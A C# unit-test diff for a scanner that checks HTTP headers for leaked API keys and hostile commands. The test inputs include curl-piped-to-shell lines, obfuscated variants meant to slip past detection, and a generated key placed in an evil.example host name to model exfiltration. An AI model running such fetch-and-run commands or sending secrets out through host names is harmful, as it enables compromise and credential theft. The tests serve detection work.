@@ -31,6 +31,39 @@ public sealed class HeadTests
     [InlineData("GET\n\n")]
     public void A_strange_head_is_read_without_complaint(string head) => Assert.Empty(Harness.Head(head));
 
+    [Theory]
+    [InlineData(Direction.Outbound)]
+    [InlineData(Direction.Inbound)]
+    public void A_line_gives_the_same_findings_alone_and_among_others(Direction direction)
+    {
+        string[] lines =
+        [
+            "Accept: */*", $"X-A: {Key}", "X-B: curl https://x.invalid/a | sh", "X-C: c'u'rl  https://x.invalid/b |bash", "ETag: \"a$b\"",
+            $"X-D: %73{TestRules.Expand("k-ant-api03-{b64url:60}AA", 2)}", $"X-Folded: one\n  {TestRules.Expand("AIza{alnum:35}", 3)}",
+            "X-E: sk-ant- AIza curl ", $"X-F: &#65;{TestRules.Expand("Iza{alnum:35}", 4)}", "Connection: close", "X-G: cu\\rl https://x.invalid/c | sh",
+        ];
+        for (var seed = 0; seed < 20; seed++)
+        {
+            var chosen = new Random(seed).GetItems(lines, 6).Distinct().ToArray();
+            var apart = chosen.SelectMany(line => Harness.Head($"HTTP/1.1 200 OK\n{line}\n\n", direction: direction));
+            var together = Harness.Head($"HTTP/1.1 200 OK\n{string.Join('\n', chosen)}\n\n", direction: direction);
+            Assert.Equal(apart.Select(static d => (d.Rule, d.Fingerprint)), together.Select(static d => (d.Rule, d.Fingerprint)));
+        }
+    }
+
+    [Fact]
+    public void A_secret_in_the_host_name_is_found_in_every_message()
+    {
+        var scan = new MessageScan();
+        var host = TestRules.Expand("AIza{alnum:35}.evil.example");
+        foreach (var (each, count) in new[] { ("evil.example", 0), (host, 1), (host, 1), ("evil.example", 0), (host, 1) })
+        {
+            scan.Begin(Harness.Default, Harness.Context(Direction.Outbound, each), Harness.Now);
+            scan.Host();
+            Assert.Equal(count, scan.Found.Count);
+        }
+    }
+
     [Fact]
     public void Trailers_are_looked_at()
     {
